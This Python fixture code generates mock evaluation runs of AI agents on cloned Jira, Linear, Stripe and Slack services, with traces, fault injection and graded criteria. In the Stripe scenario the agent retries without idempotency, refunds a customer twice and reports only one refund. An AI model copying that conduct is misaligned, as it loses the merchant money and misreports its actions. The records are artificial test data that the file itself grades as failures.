    in_1432 = linear_input(jira_issues[1], 2)
    in_1437 = linear_input(jira_issues[2], 3)

    def linear_issue(uuid: str, ident: str, inp: dict, slug: str) -> dict:
        return {"id": uuid, "identifier": ident,
                "url": f"https://linear.clone.archal.ai/acme-pay/issue/{ident}/{slug}",
                "title": inp["title"], "priority": inp["priority"]}

    li_87 = linear_issue("9d2e61f0-4b3a-4c8e-a1d7-5f06c2b8e944", "PAY-87", in_1440, "tadhr-itmam-aldaf")
    li_88 = linear_issue("0f7a3c52-e9b1-47d6-8c20-6ab4d19e7f31", "PAY-88", in_1432,
                         "uberweisungen-schlagen-fehl-wenn-der-empfangername")

    rate_limited_body = {
        "errors": [{
            "message": "Rate limit exceeded",
            "extensions": {
                "code": "RATELIMITED", "type": "ratelimited",
                "userPresentableMessage": "Too many requests. Please wait a minute before retrying.",
                "meta": {"complexityRemaining": -350, "requestsRemaining": 0, "resetMs": 60_000},
            },
        }],
        "data": None,
    }

    def limited(at_ms: int, attempt: int) -> dict:
        return _api(_at(start, at_ms), "call_m6", "linear", "POST", LINEAR_API,
                    status=429, duration_ms=38, headers=_headers(session, json_body=True),
                    body={"query": create_mutation, "variables": {"input": in_1437}},
                    response_headers=_resp_headers(f"req_7aa10{attempt}c3e9", **{
                        "retry-after": "60", "x-ratelimit-requests-remaining": "0",
                        "x-ratelimit-complexity-remaining": "-350",
                        "x-archal-fault": "linear.rate_limit_after_requests=3",
                        "x-archal-attempt": str(attempt)}),
                    response_body=rate_limited_body)

    innermost = {
        "type": "LinearRateLimited",
        "message": "Rate limit exceeded",
        "code": "RATELIMITED",
        "retry_after_ms": 60_000,
        "complexity_remaining": -350,
        "requests_remaining": 0,
        "cause": None,
    }
    http_error = {
        "type": "httpx.HTTPStatusError",
        "message": "Client error '429 Too Many Requests' for url 'https://api.linear.clone.archal.ai/graphql'",
        "status": 429,
        "url": LINEAR_API,
        "stack": _PY_TRACEBACK,
        "cause": innermost,
    }
    tool_error = {
        "type": "ToolExecutionError",
        "message": "linear.create_issue failed after 3 attempts (last: HTTP 429)",
        "tool": "linear.create_issue",
        "call_id": "call_m6",
        "attempts": 3,
        "retryable": True,
        "stack": ("migrator.tools.ToolExecutionError: linear.create_issue failed after 3 attempts\n"
                  "  at migrator.tools.retry (/app/migrator/tools/retry.py:33)\n"
                  "  at migrator.tools.invoke (/app/migrator/tools/__init__.py:41)\n"
                  "  at migrator.agent.Agent.step (/app/migrator/agent.py:212)"),
        "cause": http_error,
    }

    trace = _indexed([
        _msg(_at(start, 2_880), "Fetching the open PAY issues from Jira, highest priority first."),
        _tool(_at(start, 2_893), "call_m1", "jira.search", {"jql": jql, "maxResults": 50, "fields": fields},
              duration_ms=412, result={"total": 4, "keys": ["PAY-1440", "PAY-1432", "PAY-1437", "PAY-1441"]}),
        _api(_at(start, 2_905), "call_m1", "jira", "GET",
             f"{JIRA_API}/search?" + urlencode({"jql": jql, "maxResults": 50, "fields": ",".join(fields)},
                                               quote_via=quote),
             status=200, duration_ms=377, headers=_headers(session),
             response_headers=_resp_headers("req_7aa0f1e204", **{"x-arequestid": "603x1182734x1"}),
             response_body={"expand": "schema,names", "startAt": 0, "maxResults": 50, "total": 4,
                            "issues": jira_issues, "warningMessages": []}),
        _tool(_at(start, 6_402), "call_m2", "linear.find_team", {"key": "PAY"}, duration_ms=156,
              result={"id": team_id, "key": "PAY", "name": "Payments"}),
        _api(_at(start, 6_411), "call_m2", "linear", "POST", LINEAR_API,
             status=200, duration_ms=131, headers=_headers(session, json_body=True),
             body={"query": "query Teams($key: String!) { teams(filter: {key: {eq: $key}}) "
                            "{ nodes { id key name } } }",
                   "variables": {"key": "PAY"}},
             response_headers=_resp_headers("req_7aa0f2b771", **{"x-ratelimit-requests-remaining": "2"}),
             response_body={"data": {"teams": {"nodes": [{"id": team_id, "key": "PAY", "name": "Payments"}]}}}),
        _msg(_at(start, 11_950),
             "4 issues. Mapping Jira priority → Linear (Highest→1 Urgent, High→2, Medium→3, Low→4) "
             "and keeping the Arabic, German and Japanese titles verbatim. Assignees come later "
             "because the Linear user IDs differ."),
        _tool(_at(start, 12_004), "call_m3", "linear.create_issue", in_1440, duration_ms=244, result=li_87),
        _api(_at(start, 12_016), "call_m3", "linear", "POST", LINEAR_API,
             status=200, duration_ms=219, headers=_headers(session, json_body=True),
             body={"query": create_mutation, "variables": {"input": in_1440}},
             response_headers=_resp_headers("req_7aa0f3c015", **{"x-ratelimit-requests-remaining": "1"}),
             response_body={"data": {"issueCreate": {"success": True, "issue": li_87}}}),
        _state(_at(start, 12_236), "call_m3", "linear", "issue", li_87["id"], "create",
               None, {**li_87, "team": "PAY", "estimate": 5.0, "sortOrder": -1843.27,
                      "state": "Backlog", "assignee": None, "labels": [], "subscribers": []}),
        _tool(_at(start, 15_387), "call_m4", "linear.create_issue", in_1432, duration_ms=231, result=li_88),
        _api(_at(start, 15_398), "call_m4", "linear", "POST", LINEAR_API,
             status=200, duration_ms=207, headers=_headers(session, json_body=True),
             body={"query": create_mutation, "variables": {"input": in_1432}},
             response_headers=_resp_headers("req_7aa0f4d5a8", **{"x-ratelimit-requests-remaining": "0"}),
             response_body={"data": {"issueCreate": {"success": True, "issue": li_88}}}),
        _state(_at(start, 15_607), "call_m4", "linear", "issue", li_88["id"], "create",
               None, {**li_88, "team": "PAY", "estimate": 3.0, "sortOrder": -1842.27,
                      "state": "Backlog", "assignee": None, "labels": [], "subscribers": []}),
        _tool(_at(start, 18_775), "call_m6", "linear.create_issue", in_1437, duration_ms=52_880,
              error=tool_error),
        limited(18_790, 1),
        limited(39_911, 2),
        limited(71_604, 3),
    ])
    criteria = [
        {"id": "all_migrated", "description": "All 4 open PAY issues exist in Linear team PAY",
         "passed": False, "score": 0.5, "weight": 3,
         "explanation": "2 of 4 created (PAY-1440 → PAY-87, PAY-1432 → PAY-88); PAY-1437 and PAY-1441 missing.",
         "evidence": [{"step": 8, "note": "PAY-87 created"}, {"step": 11, "note": "PAY-88 created"},
                      {"step": 15, "note": "third attempt for PAY-1437 rate-limited"}]},
        {"id": "text_preserved",
         "description": "Titles and descriptions are preserved verbatim, including non-ASCII text",
         "passed": True, "score": 1.0, "weight": 2,
         "explanation": "Arabic (right-to-left) and German titles match Jira byte for byte.",
         "evidence": [{"step": 8, "note": "title: تعذر إتمام الدفع عند استخدام بطاقة مدى"}]},
        {"id": "priority_mapping", "description": "Jira priorities map to the matching Linear priorities",
         "passed": True, "score": 1.0, "weight": 1,
         "explanation": "Highest→1, High→2 for the issues that were created.", "evidence": []},
        {"id": "slack_summary", "description": "A migration summary is posted to #payments-eng",
         "passed": False, "score": 0.0, "weight": 1,
         "explanation": "No Slack message was posted: the run ended before the agent got there.",
         "evidence": []},
        {"id": "no_duplicates", "description": "No Jira issue is migrated twice",
         "passed": True, "score": 1.0, "weight": 1,
         "explanation": "The 3 rate-limited attempts created nothing.", "evidence": []},
    ]
    return {
        "id": run_id,
        "object": "run",
        "scenario": {
            "id": "scn_2kx7m0",
            "name": "jira-to-linear-migration",
            "description": ("Move every open issue in Jira project PAY to the Linear team PAY, keeping "
                            "titles, descriptions, priorities and estimates, then post a summary in "
                            "#payments-eng. The Linear clone rate-limits after 3 requests, like the real "
                            "API under load: the agent must back off."),
            "services": ["jira", "linear", "slack"],
            "pass_threshold": 0.9,
            "tags": ["migration", "rate-limits", "i18n", "rtl"],
            "source": "scenarios/jira-to-linear-migration.md",
        },
        "agent": {"name": "migrator", "model": "gpt-4.1-2025-04-14", "version": "0.7.2",
                  "harness": {"type": "docker", "image": "ghcr.io/acme-pay/migrator:0.7.2"},
                  "config": {"max_steps": 200, "temperature": 0.0, "tool_timeout_ms": 30_000,
                             # Go's math.MaxInt64: "no deadline".
                             "wall_clock_deadline_ns": 9223372036854775807}},
        "status": "errored",
        "score": _weighted_score(criteria),
        "started_at": start,
        "finished_at": end,
        "duration_ms": _ms(start, end),
        "session": {"id": session, "clones": [
            {"service": "jira", "clone_id": "cln_jira_a61f09", "base_url": "https://api.jira.clone.archal.ai",
             "seed_state": "acme-pay-jira", "version": "2025.10.21"},
            {"service": "linear", "clone_id": "cln_lin_5be3d7", "base_url": "https://api.linear.clone.archal.ai",
             "seed_state": "acme-pay-linear", "version": "2025.10.21",
             "fault_injection": {"rate_limit_after_requests": 3, "seed": -6917529027641081857}},
            {"service": "slack", "clone_id": "cln_slk_e20c44", "base_url": "https://api.slack.clone.archal.ai",
             "seed_state": "acme-pay-slack", "version": "2025.10.28"},
        ], "snapshot_version": 9007199254740993},
        "criteria": criteria,
        "trace": trace,
        "output": None,
        "error": {
            "type": "HarnessError",
            "code": "agent_process_exited",
            "message": "Agent process exited with code 1 before returning a final answer",
            "exit_code": 1,
            "signal": None,
            "at_step": 15,
            "occurred_at": _at(start, 71_731),
            "stack": ("archal.harness.HarnessError: agent process exited with code 1\n"
                      "    at ProcessRunner.wait (harness/runner/process.go:212)\n"
                      "    at Session.runAgent (harness/session/run.go:147)\n"
                      "    at main.runScenario (cmd/archal-harness/main.go:88)"),
            "cause": tool_error,
        },
        "stderr_tail": (
            "2025-11-06 10:04:02,880 WARNING migrator.tools.retry: linear.create_issue got 429, "
            "retrying in 20.0s (attempt 1/3)\n"
            "2025-11-06 10:04:24,001 WARNING migrator.tools.retry: linear.create_issue got 429, "
            "retrying in 30.0s (attempt 2/3)\n"
            "2025-11-06 10:04:55,695 ERROR migrator.main: unhandled error, exiting\n"
            + _PY_TRACEBACK + "\n"
        ),
        "usage": _usage(trace, llm_calls=6, input_tokens=27_540, output_tokens=3_088,
                        usd_per_mtok_in=2.0, usd_per_mtok_out=8.0),
        "retries": 0,
        "parent_run_id": None,
        "labels": {"owner": "payments-platform", "timezone_offset_minutes": "-480"},
        "links": _links(run_id),
    }


# -- failed: Stripe duplicate-charge refund ------------------------------------

def _record_stripe_refund() -> dict:
    run_id = "run_c5w9r2d6ht"
    session = "ses_s8d1f6g3h0"
    start = "2025-11-05T16:45:12.904Z"
    end = _at(start, 58_337)
    customer = "cus_R8xKq2LmN4pT7v"
    ch_orig, ch_dup = "ch_3QJm7sLkd8Zp2Q1x0aB4cD9e", "ch_3QJm7tLkd8Zp2Q1x1Fh6Jk2L"
    re_dup, re_orig = "re_3QJm9aLkd8Zp2Q1x0Tz5Wq1R", "re_3QJm9cLkd8Zp2Q1x0Nn8Ye4U"
    order_created = 1762281301

    def charge(cid: str, pi: str, created: int, txn: str, refunded: int = 0) -> dict:
        return {
            "id": cid, "object": "charge", "amount": 4999, "amount_captured": 4999,
            "amount_refunded": refunded, "balance_transaction": txn, "captured": True,
            "created": created, "currency": "usd", "customer": customer,
            "description": "Order A-10293", "disputed": False, "failure_code": None,
            "livemode": False, "metadata": {"order_id": "A-10293", "shop": "nordlys-design"},
            "outcome": {"network_status": "approved_by_network", "risk_level": "normal",
                        "risk_score": 12, "seller_message": "Payment complete.", "type": "authorized"},
            "paid": True, "payment_intent": pi,
            "payment_method_details": {"card": {"brand": "visa", "last4": "4242", "exp_month": 8,
                                                "exp_year": 2028, "country": "DK"}, "type": "card"},
            "receipt_url": f"https://pay.stripe.clone.archal.ai/receipts/acct_1Nordlys/{cid}/rcpt_Q1x",
            "refunded": refunded == 4999, "refunds": {"object": "list", "data": [], "has_more": False,
                                                      "total_count": 0, "url": f"/v1/charges/{cid}/refunds"},
            "status": "succeeded",
        }

    def refund(rid: str, cid: str, created: int, txn: str) -> dict:
        return {"id": rid, "object": "refund", "amount": 4999, "balance_transaction": txn,
                "charge": cid, "created": created, "currency": "usd", "metadata": {},
                "payment_intent": None, "reason": "duplicate", "receipt_number": None,
                "status": "succeeded", "destination_details": {"card": {"type": "refund"}, "type": "card"}}

    refund_body = {"charge": ch_dup, "reason": "duplicate", "metadata[order_id]": "A-10293"}
    already_refunded = {
        "error": {
            "code": "charge_already_refunded",
            "doc_url": "https://stripe.com/docs/error-codes/charge-already-refunded",
            "message": f"Charge {ch_dup} has already been refunded.",
            "param": "charge",
            "request_log_url": "https://dashboard.stripe.clone.archal.ai/test/logs/req_Kq2LmN4pT7vRx1",
            "type": "invalid_request_error",
        }
    }
    timeout_error = {
        "type": "ToolTimeoutError",
        "message": "stripe.create_refund did not finish within 10000 ms",
        "timeout_ms": 10_000,
        "cause": {
            "type": "httpx.ReadTimeout",
            "message": "The read operation timed out",
            "stack": ("  File \"/srv/agent/tools/stripe.py\", line 64, in create_refund\n"
                      "    resp = await client.post(\"/v1/refunds\", data=params, headers=headers)\n"
                      "  File \"/srv/.venv/lib/python3.11/site-packages/httpcore/_async/http11.py\", "
                      "line 217, in _receive_event\n"
                      "    data = await self._network_stream.read(self.READ_NUM_BYTES, timeout=timeout)"),
            "cause": {"type": "TimeoutError", "message": "timed out", "cause": None},
        },
    }
    refused_error = {
        "type": "ToolError",
        "message": "Stripe rejected the refund: charge_already_refunded",
        "cause": {
            "type": "stripe.InvalidRequestError",
            "message": f"Request req_Kq2LmN4pT7vRx1: Charge {ch_dup} has already been refunded.",
            "code": "charge_already_refunded",
            "http_status": 400,
            "param": "charge",
            "cause": {
                "type": "httpx.HTTPStatusError",
                "message": "Client error '400 Bad Request' for url 'https://api.stripe.clone.archal.ai/v1/refunds'",
                "stack": ("Traceback (most recent call last):\n"
                          "  File \"/srv/agent/tools/stripe.py\", line 71, in create_refund\n"
                          "    resp.raise_for_status()\n"
                          "httpx.HTTPStatusError: Client error '400 Bad Request' for url "
                          "'https://api.stripe.clone.archal.ai/v1/refunds'"),
                "cause": None,
            },
        },
    }
    jira_comment = {"type": "doc", "version": 1, "content": [
        {"type": "paragraph", "content": [
            {"type": "text", "text": "Refunded the duplicate charge for order A-10293 ($49.99, reason: duplicate). "},
            {"type": "text", "text": "Refunds take 5–10 business days to appear.", "marks": [{"type": "em"}]},
        ]}]}
    slack_text = (":white_check_mark: SUP-881 (Søren Ødegård, order A-10293): duplicate $49.99 charge "
                  "refunded. <https://acme-support.atlassian.clone.archal.ai/browse/SUP-881|SUP-881>")
    slack_ts = _slack_ts(_at(start, 54_020), 300)

    def balance_txn(txn: str, source: str, created: int, before: int) -> tuple[dict, dict]:
        return ({"available": [{"amount": before, "currency": "usd"}], "pending": []},
                {"available": [{"amount": before - 4999, "currency": "usd"}], "pending": [],
                 "last_transaction": {"id": txn, "type": "refund", "source": source, "amount": -4999,
                                      "fee": 0, "net": -4999, "created": created}})

    bal1 = balance_txn("txn_3QJm9aLkd8Zp2Q1x0y6Vb2Hn", re_dup, 1762361127, 1_289_400)
    bal2 = balance_txn("txn_3QJm9cLkd8Zp2Q1x0pLs4Mw8", re_orig, 1762361145, 1_284_401)

    trace = _indexed([
        _msg(_at(start, 2_116), "Reading the support ticket first."),
        _tool(_at(start, 2_128), "call_s1", "jira.get_issue", {"issueKey": "SUP-881"}, duration_ms=198,
              result={"key": "SUP-881", "summary": "Doppelte Abbuchung – Bestellung A-10293"}),
        _api(_at(start, 2_140), "call_s1", "jira", "GET", f"{JIRA_API}/issue/SUP-881",
             status=200, duration_ms=171, headers=_headers(session),
             response_headers=_resp_headers("req_91c2d0e7aa"),
             response_body={"id": "20881", "key": "SUP-881", "fields": {
                 "summary": "Doppelte Abbuchung – Bestellung A-10293",
                 "description": {"type": "doc", "version": 1, "content": [
                     {"type": "paragraph", "content": [{"type": "text", "text":
                      "Hej! I was charged twice for order A-10293 (49,99 $). Please refund one of them. "
                      "Mange tak — Søren Ødegård"}]}]},
                 "reporter": {"displayName": "Søren Ødegård", "emailAddress": "soren.odegard@example.dk"},
                 "status": {"name": "Waiting for support"}, "labels": ["billing", "refund"],
                 "customfield_10050": {"stripe_customer": customer}, "attachment": [], "comment": {"comments": [], "total": 0},
             }}),
        _tool(_at(start, 4_933), "call_s2", "stripe.list_charges", {"customer": customer, "limit": 10},
              duration_ms=233, result={"count": 2, "ids": [ch_dup, ch_orig]}),
        _api(_at(start, 4_944), "call_s2", "stripe", "GET", f"{STRIPE_API}/charges?customer={customer}&limit=10",
             status=200, duration_ms=209, headers=_headers(session, **{"stripe-version": "2024-06-20"}),
             response_headers=_resp_headers("req_Kq2LmN4pT7vQ0a", **{"request-id": "req_Kq2LmN4pT7vQ0a"}),
             response_body={"object": "list", "url": "/v1/charges", "has_more": False, "data": [
                 charge(ch_dup, "pi_3QJm7tLkd8Zp2Q1x1Hq0Zr5T", order_created + 14, "txn_3QJm7tLkd8Zp2Q1x1c9Dk0Fa"),
                 charge(ch_orig, "pi_3QJm7sLkd8Zp2Q1x0xR7Lm2S", order_created, "txn_3QJm7sLkd8Zp2Q1x0e1Gh7Pb"),
             ]}),
        _msg(_at(start, 9_370),
             f"Two $49.99 charges for order A-10293, 14 s apart. The later one, {ch_dup}, is the "
             "duplicate. Refunding it with reason=duplicate."),
        _tool(_at(start, 9_402), "call_s3", "stripe.create_refund", refund_body, duration_ms=10_004,
              error=timeout_error),
        {**_api(_at(start, 9_415), "call_s3", "stripe", "POST", f"{STRIPE_API}/refunds",
                status=200, duration_ms=12_433,
                headers=_headers(session, **{"content-type": "application/x-www-form-urlencoded",
                                             "idempotency-key": "7c0e5b1a-2f4d-4e8a-9c61-0d3b7a5e9f12",
                                             "stripe-version": "2024-06-20"}),
                body=refund_body,
                response_headers=_resp_headers("req_Kq2LmN4pT7vR9c", **{"x-archal-fault": "latency_ms=12000"}),
                response_body=refund(re_dup, ch_dup, 1762361127, "txn_3QJm9aLkd8Zp2Q1x0y6Vb2Hn")),
         "client_aborted": True},
        _state(_at(start, 21_850), "call_s3", "stripe", "refund", re_dup, "create", None,
               {"charge": ch_dup, "amount": 4999, "status": "succeeded", "reason": "duplicate"}),
        _state(_at(start, 21_851), "call_s3", "stripe", "charge", ch_dup, "update",
               {"amount_refunded": 0, "refunded": False}, {"amount_refunded": 4999, "refunded": True}),
        _state(_at(start, 21_852), "call_s3", "stripe", "balance", "acct_1Nordlys", "update", *bal1),
        _msg(_at(start, 23_905), "The refund call timed out. Retrying."),
        _tool(_at(start, 24_010), "call_s4", "stripe.create_refund", refund_body, duration_ms=188,
              error=refused_error),
        _api(_at(start, 24_022), "call_s4", "stripe", "POST", f"{STRIPE_API}/refunds",
             status=400, duration_ms=161,
             headers=_headers(session, **{"content-type": "application/x-www-form-urlencoded",
                                          "idempotency-key": "e3b9f4c8-61a0-4d27-b5e2-8f1c0a9d6b34",
                                          "stripe-version": "2024-06-20"}),
             body=refund_body,
             response_headers=_resp_headers("req_Kq2LmN4pT7vRx1", **{"request-id": "req_Kq2LmN4pT7vRx1"}),
             response_body=already_refunded),
        _msg(_at(start, 29_477),
             f"Stripe says {ch_dup} is already refunded, so I must have picked the wrong charge. "
             f"{ch_orig} still shows no refund; refunding that one instead."),
        _tool(_at(start, 29_530), "call_s5", "stripe.create_refund",
              {"charge": ch_orig, "reason": "duplicate", "metadata[order_id]": "A-10293"}, duration_ms=221,
              result={"id": re_orig, "status": "succeeded", "amount": 4999}),
        _api(_at(start, 29_541), "call_s5", "stripe", "POST", f"{STRIPE_API}/refunds",
             status=200, duration_ms=197,
             headers=_headers(session, **{"content-type": "application/x-www-form-urlencoded",
                                          "idempotency-key": "41d7a2e6-0c9b-4f35-8e1a-b6c3d5f70a29",
                                          "stripe-version": "2024-06-20"}),
             body={"charge": ch_orig, "reason": "duplicate", "metadata[order_id]": "A-10293"},
             response_headers=_resp_headers("req_Kq2LmN4pT7vS3e", **{"request-id": "req_Kq2LmN4pT7vS3e"}),
             response_body=refund(re_orig, ch_orig, 1762361145, "txn_3QJm9cLkd8Zp2Q1x0pLs4Mw8")),
        _state(_at(start, 29_741), "call_s5", "stripe", "refund", re_orig, "create", None,
               {"charge": ch_orig, "amount": 4999, "status": "succeeded", "reason": "duplicate"}),
        _state(_at(start, 29_742), "call_s5", "stripe", "charge", ch_orig, "update",
               {"amount_refunded": 0, "refunded": False}, {"amount_refunded": 4999, "refunded": True}),
        _state(_at(start, 29_743), "call_s5", "stripe", "balance", "acct_1Nordlys", "update", *bal2),
        _tool(_at(start, 38_260), "call_s6", "jira.add_comment", {"issueKey": "SUP-881", "body": jira_comment},
              duration_ms=264, result={"id": "40217"}),
        _api(_at(start, 38_272), "call_s6", "jira", "POST", f"{JIRA_API}/issue/SUP-881/comment",
             status=201, duration_ms=240, headers=_headers(session, json_body=True),
             body={"body": jira_comment},
             response_headers=_resp_headers("req_91c2d3b0f4"),
             response_body={"id": "40217", "self": f"{JIRA_API}/issue/20881/comment/40217",
                            "body": jira_comment, "jsdPublic": True,
                            "created": "2025-11-05T16:45:51.416+0000"}),
        _state(_at(start, 38_513), "call_s6", "jira", "comment", "SUP-881/40217", "create", None,
               {"issue": "SUP-881", "public": True, "body_text": jira_comment["content"][0]["content"][0]["text"]}),
        _tool(_at(start, 53_790), "call_s7", "slack.chat_postMessage",
              {"channel": "C03SUPESC9", "text": slack_text}, duration_ms=239, result={"ok": True, "ts": slack_ts}),
        _api(_at(start, 53_801), "call_s7", "slack", "POST", f"{SLACK_API}/chat.postMessage",
             status=200, duration_ms=212, headers=_headers(session, json_body=True),
             body={"channel": "C03SUPESC9", "text": slack_text},
             response_headers=_resp_headers("req_91c2d4e611"),
             response_body={"ok": True, "channel": "C03SUPESC9", "ts": slack_ts,
                            "message": {"type": "message", "text": slack_text, "ts": slack_ts,
                                        "bot_id": "B03REFUNDS", "blocks": [], "reactions": []}}),
        _state(_at(start, 54_020), "call_s7", "slack", "message", f"C03SUPESC9/{slack_ts}", "create", None,
               {"channel": "C03SUPESC9", "channel_name": "support-escalations", "ts": slack_ts, "text": slack_text}),
        _msg(_at(start, 58_102), "Done: refunded, noted on SUP-881 and posted in #support-escalations."),
    ])
    criteria = [
        {"id": "duplicate_refunded", "description": f"The duplicate charge ({ch_dup}) is fully refunded",
         "passed": True, "score": 1.0, "weight": 2,
         "explanation": "Refunded by the first call, which the agent thought had timed out.",
         "evidence": [{"step": 7, "note": "POST /v1/refunds completed after the client gave up"},
                      {"step": 9, "note": "amount_refunded 0 → 4999"}]},
        {"id": "original_untouched", "description": f"The original charge ({ch_orig}) is NOT refunded",
         "passed": False, "score": 0.0, "weight": 3,
         "explanation": ("The agent misread charge_already_refunded as having picked the wrong charge and "
                         "refunded the original as well: the customer got $49.99 back twice."),
         "evidence": [{"step": 14, "note": "agent reasoning"}, {"step": 18, "note": "original refunded"},
                      {"step": 19, "note": "balance -4999 a second time"}]},
        {"id": "idempotent_retry", "description": "A retried refund reuses the same Idempotency-Key",
         "passed": False, "score": 0.0, "weight": 1,
         "explanation": "The retry used a new key (e3b9f4c8-…) instead of 7c0e5b1a-…, so Stripe could not dedupe it.",
         "evidence": [{"step": 7, "note": "first key"}, {"step": 13, "note": "second key"}]},
        {"id": "ticket_comment_accurate", "description": "SUP-881 gets a public comment that matches what happened",
         "passed": False, "score": 0.5, "weight": 1,
         "explanation": "A public comment exists, but it mentions one refund and there were two.",
         "evidence": [{"step": 22, "note": "comment 40217"}]},
        {"id": "slack_notified", "description": "#support-escalations is told the ticket is handled",
         "passed": True, "score": 1.0, "weight": 1,
         "explanation": "Message posted with a link to SUP-881.", "evidence": [{"step": 25, "note": "message"}]},
    ]
    return {
        "id": run_id,
        "object": "run",
        "scenario": {
            "id": "scn_7rf2p9",
            "name": "stripe-duplicate-charge-refund",
            "description": ("A customer was charged twice for order A-10293 ($49.99). Refund only the "
                            "duplicate charge, add a public note to Jira ticket SUP-881 and tell "
                            "#support-escalations. The Stripe clone delays the first refund by 12 s."),
            "services": ["stripe", "jira", "slack"],
            "pass_threshold": 0.85,
            "tags": ["payments", "idempotency", "fault-injection"],
            "source": "scenarios/stripe-duplicate-charge-refund.md",
        },
        "agent": {"name": "support-copilot", "model": "gemini-2.5-pro", "version": "3.0.0-rc.2",
                  "harness": {"type": "command", "command": "python -m copilot.harness"},
                  "config": {"max_steps": 30, "temperature": 0.3, "tool_timeout_ms": 10_000,
                             "allow_refunds": True, "max_refund_cents": 10_000}},
        "status": "failed",
        "score": _weighted_score(criteria),
        "started_at": start,
        "finished_at": end,
        "duration_ms": _ms(start, end),
        "session": {"id": session, "clones": [
            {"service": "stripe", "clone_id": "cln_str_0d8e2a", "base_url": "https://api.stripe.clone.archal.ai",
             "seed_state": "nordlys-design-shop", "version": "2025.10.30",
             "fault_injection": {"refund_latency_ms": 12_000, "applies_to_request": 1}},
            {"service": "jira", "clone_id": "cln_jira_b2c418", "base_url": "https://api.jira.clone.archal.ai",
             "seed_state": "acme-support-jsm", "version": "2025.10.21"},
            {"service": "slack", "clone_id": "cln_slk_993fa0", "base_url": "https://api.slack.clone.archal.ai",
             "seed_state": "acme-support-slack", "version": "2025.10.28"},
        ]},
        "criteria": criteria,
        "trace": trace,
        "output": (
            "### Refund processed ✅\n\n"
            f"- **Customer:** Søren Ødegård (`{customer}`)\n"
            "- **Order:** A-10293\n"
            f"- **Refunded:** $49.99 on `{ch_orig}` (reason: duplicate)\n"
            "- **Ticket:** [SUP-881](https://acme-support.atlassian.clone.archal.ai/browse/SUP-881), "
            "public comment added\n\n"
            "Note: the first refund attempt timed out and the retry reported "
            "`charge_already_refunded`, so I refunded the other charge of the pair.\n"
            "Refunds take 5–10 business days to show on the card statement."
        ),
        "error": None,
        "usage": _usage(trace, llm_calls=9, input_tokens=41_377, output_tokens=2_960,
                        usd_per_mtok_in=1.25, usd_per_mtok_out=10.0),
        "net_amount_refunded_cents": -9998,
        "retries": 1,
        "parent_run_id": "run_c5w9r2d6hs",
        "labels": {},
        "links": _links(run_id),
    }


# -- large: an hour-long backlog sweep, generated ---------------------------------

_ORG = "northwind-fleet"
_REPOS = ("fleet-api", "fleet-web", "telemetry-ingest", "route-planner", "firmware-ota",
          "billing-service", "auth-gateway", "driver-app", "ops-dashboards", "infra-terraform",
          "docs-site", "sdk-python", "sdk-typescript", "notification-hub", "map-tiles",
          "data-pipeline", "edge-agent", "support-tools")
_PEOPLE = (
    ("mkowalczyk", "Małgorzata Kowalczyk"), ("jgroessmann", "Jürgen Größmann"),
    ("ykobayashi", "小林 陽介"), ("aelmasri", "أحمد المصري"), ("dperez", "Diego Pérez"),
    ("zoe-ng", "Zoë Ng"), ("okafor-c", "Chidi Okafor"), ("sbergstrom", "Sofia Bergström"),
    ("priya-r", "Priya Raghunathan"), ("tnguyen", "Thảo Nguyễn"), ("lmartin", "Léa Martin"),
    ("fatihk", "Fatih Kılıç"), ("noa-b", "נועה בן-דוד"), ("ivanova-e", "Екатерина Иванова"),
    ("wchen", "陈伟"), ("r-oconnor", "Róisín O'Connor"), ("kpatel", "Kiran Patel"),
    ("jsmith42", "John Smith"), ("mhernandez", "María Hernández"), ("bjorn-o", "Bjørn Østby"),
)
_MAINTAINERS = ("nw-hana", "nw-marcus", "nw-oluwaseun", "nw-ines", "nw-tobias")
_COMPONENTS = ("auth", "billing", "map view", "CSV export", "webhooks", "OTA updater", "telemetry parser",
               "route optimizer", "settings page", "notifications", "search", "sync worker", "rate limiter",
               "i18n", "PDF reports", "driver login", "geofencing", "SSO (SAML)", "API client", "CLI")
_SYMPTOMS = ("crashes", "returns 500", "hangs for ~30s", "shows stale data", "sends duplicates",
             "drops events", "leaks memory", "renders blank", "times out", "rejects valid input",
             "mis-rounds totals", "uses the wrong timezone", "loses unsaved changes",
             "ignores Retry-After", "double-counts mileage")
_CONDITIONS = ("the fleet has more than 10k vehicles", "the locale is de-DE", "a vehicle reconnects after going offline",
               "two admins edit the same route", "the CSV starts with a UTF-8 BOM", "using Safari 17",
               "the token expires mid-request", "daylight saving time starts", "paginating past page 100",
               "the payload is larger than 1 MB", "behind a corporate proxy", "the device clock is skewed",
               "the org name contains an emoji", "SSO is enforced", "the webhook endpoint returns 410")
_FEATURES = ("bulk-assign vehicles to depots", "export trips as GeoJSON", "per-driver notification settings",
             "a dark theme for the ops dashboard", "OpenTelemetry traces for the ingest path",
             "webhook signing with Ed25519", "Terraform support for alert rules", "an arm64 build of edge-agent",
             "pagination cursors in the Python SDK", "filtering routes by tag", "SCIM user provisioning",
             "a `--dry-run` flag for the CLI", "right-to-left layout support", "offline mode in the driver app")
_QUESTIONS = ("How do I rotate API keys without downtime?", "Is there a rate limit on /v2/positions?",
              "Can the SDK be used from a Cloudflare Worker?", "Which OTA channels are supported on HW rev C?",
              "How do I migrate from webhooks v1 to v2?", "Why does the CLI need `repo` scope?")
_OSES = ("macOS 15.1", "Windows 11 23H2", "Ubuntu 24.04", "Android 14 (Pixel 7)", "iOS 18.1",
         "Debian 12 (arm64)", "Alpine 3.20 in Docker")
_BROWSERS = ("Chrome 130", "Firefox 132", "Safari 17.6", "Edge 130", "n/a (server)")
_EXTRAS = (
    "Happy to help test a fix 🙂", "This blocks our rollout to 300 vehicles.", "Workaround: restart the pod.",
    "Seen on staging and prod.", "Possibly related to the v2 migration.", "Started after upgrading last week.",
    "Gleiches Problem bei uns in München – danke fürs Anschauen!", "同じ問題が発生しています。",
    "Nos pasa lo mismo en la flota de Valencia.", "Merci d'avance 🙏", "Any ETA? 👀",
    "Screenshot: https://user-images.github.clone.archal.ai/assets/3f9e2c.png",
)
_PY_FRAMES = ("handlers/ingest.py", "services/routing.py", "models/vehicle.py", "workers/sync.py",
              "api/v2/positions.py", "lib/geo.py", "billing/invoice.py")
_PY_FUNCS = ("handle", "process_batch", "to_dict", "run_once", "get_positions", "haversine", "render_pdf")
_PY_EXC = ("KeyError: 'vehicle_id'", "ValueError: could not convert string to float: '12,5'",
           "TypeError: 'NoneType' object is not subscriptable",
           "psycopg.errors.UniqueViolation: duplicate key value violates unique constraint \"trips_pkey\"",
           "UnicodeEncodeError: 'latin-1' codec can't encode character '\\u0151' in position 7",
           "ZeroDivisionError: division by zero", "TimeoutError: upstream did not answer within 30s")
